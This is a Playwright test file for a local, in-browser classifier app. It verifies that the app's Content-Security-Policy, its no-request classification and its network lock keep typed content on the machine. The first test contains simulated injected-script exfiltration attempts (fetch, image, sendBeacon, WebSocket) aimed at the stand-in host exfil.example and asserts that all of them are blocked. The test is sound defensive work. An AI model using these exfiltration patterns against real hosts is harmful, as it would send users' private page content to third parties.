// "Nothing you type leaves this machine", enforced and shown: the built site ships a Content-Security-Policy that
// limits connections to itself and the model hosts; script in the page that tries to send content elsewhere
// (fetch, image, beacon, WebSocket) is blocked and reported in the header; and a classification makes no
// request at all, from the page, its workers or the service worker.
import { expect, test, type Request } from '@playwright/test';
import { appUrl, downloadUntilReady, MODEL_SERVER, resetServer, servedRequests } from './model-server';

test.setTimeout(600_000);

test('the policy is in the page and in _headers; exfiltration attempts are blocked and reported', async ({ page, context }) => {
  let reachedNetwork = 0;
  await context.route(/exfil\.example/, (route) => {
    reachedNetwork++;
    return route.abort();
  });
  await page.goto('/app/');
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("connect-src 'self' https://huggingface.co");
  expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval'");
  const headers = await (await page.request.get('/app/_headers')).text();
  expect(headers).toContain(`Content-Security-Policy: ${csp}`);
  await expect(page.getByTestId('privacy')).toContainText('lets it contact only itself and model hosts (huggingface.co');

  // What injected script would try with the content of the page.
  const outcome = await page.evaluate(async () => {
    const secret = encodeURIComponent('the content under review');
    const fetched = await fetch(`https://exfil.example/f?d=${secret}`).then(() => 'sent', (e: Error) => `blocked: ${e.name}`);
    const image = await new Promise<string>((resolve) => {
      const img = new Image();
      img.onload = () => resolve('sent');
      img.onerror = () => resolve('blocked');
      img.src = `https://exfil.example/i.png?d=${secret}`;
    });
    let beacon: string;
    try {
      beacon = navigator.sendBeacon(`https://exfil.example/b?d=${secret}`, secret) ? 'queued' : 'refused';
    } catch (e) {
      beacon = `blocked: ${(e as Error).name}`;
    }
    const socket = await new Promise<string>((resolve) => {
      try {
        const ws = new WebSocket(`wss://exfil.example/ws?d=${secret}`);
        ws.onopen = () => resolve('sent');
        ws.onerror = () => resolve('blocked');
      } catch (e) {
        resolve(`blocked: ${(e as Error).name}`);
      }
    });
    return { fetched, image, beacon, socket };
  });
  expect(outcome.fetched).toMatch(/^blocked/);
  expect(outcome.image).toBe('blocked');
  expect(outcome.socket).toMatch(/^blocked/);
  expect(outcome.beacon).not.toBe('sent');
  const blocked = page.getByTestId('blocked-connections');
  await expect(blocked).toHaveAttribute('data-count', /^[4-9]|\d\d+$/); // fetch, image, beacon, WebSocket
  await expect(blocked).toContainText('exfil.example');
  expect(reachedNetwork).toBe(0); // the browser never sent them
  await page.screenshot({ path: 'test-results/screenshots/privacy-blocked-1280.png', fullPage: true });
});

test('a classification makes no network request at all (page, workers, service worker)', async ({ page, context }) => {
  await resetServer();
  await page.goto(appUrl());
  await downloadUntilReady(page);
  await page.getByLabel('Content').fill('Private message: my address is 12 Example Road.');

  const requests: string[] = [];
  const record = (r: Request) => requests.push(`${r.method()} ${r.url()}`);
  page.on('request', record); // the page and its dedicated workers
  context.on('request', record); // also service workers
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByTestId('verdict-label')).toHaveText('violation', { timeout: 300_000 });
  expect(requests).toEqual([]);
});

test('the network lock refuses every request to another origin, even one the policy allows, and survives a reload', async ({ page }) => {
  await resetServer();
  await page.goto(appUrl());
  await downloadUntilReady(page);
  await expect(page.getByTestId('offline-status')).toHaveAttribute('data-state', 'ready');
  await page.getByRole('button', { name: 'Lock the network' }).click();
  await expect(page.getByTestId('network-locked')).toBeVisible();
  await resetServer(); // forget the download's requests: from here on the server must see nothing

  // The local model server is allowed by the Content-Security-Policy (a mirror); the lock still refuses it.
  const probe = `${MODEL_SERVER}/safeguard-web/scripted-gpt-oss/resolve/v1/config.json`;
  const fromPage = await page.evaluate((url) => fetch(url).then(() => 'sent', () => 'refused'), probe);
  expect(fromPage).toBe('refused');
  await expect(page.getByTestId('lock-refused')).toContainText(MODEL_SERVER); // by origin: the URL may carry content
  expect((await servedRequests()).filter((r) => r.path.endsWith('config.json'))).toEqual([]);

  await page.reload(); // still locked; the app and the model come from this machine
  await expect(page.getByTestId('network-locked')).toBeVisible();
  await expect(page.getByTestId('model-state')).toContainText('Ready', { timeout: 300_000 });
  await page.getByLabel('Content').fill('Reviewed while locked.');
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByTestId('verdict-label')).toHaveText('violation', { timeout: 300_000 });
  await page.screenshot({ path: 'test-results/screenshots/network-locked-1280.png', fullPage: true });

  await page.getByRole('button', { name: 'Unlock the network' }).click();
  await expect(page.getByTestId('network-locked')).toHaveCount(0);
  expect(await page.evaluate((url) => fetch(url).then((r) => r.status, () => 0), probe)).toBe(200);
});
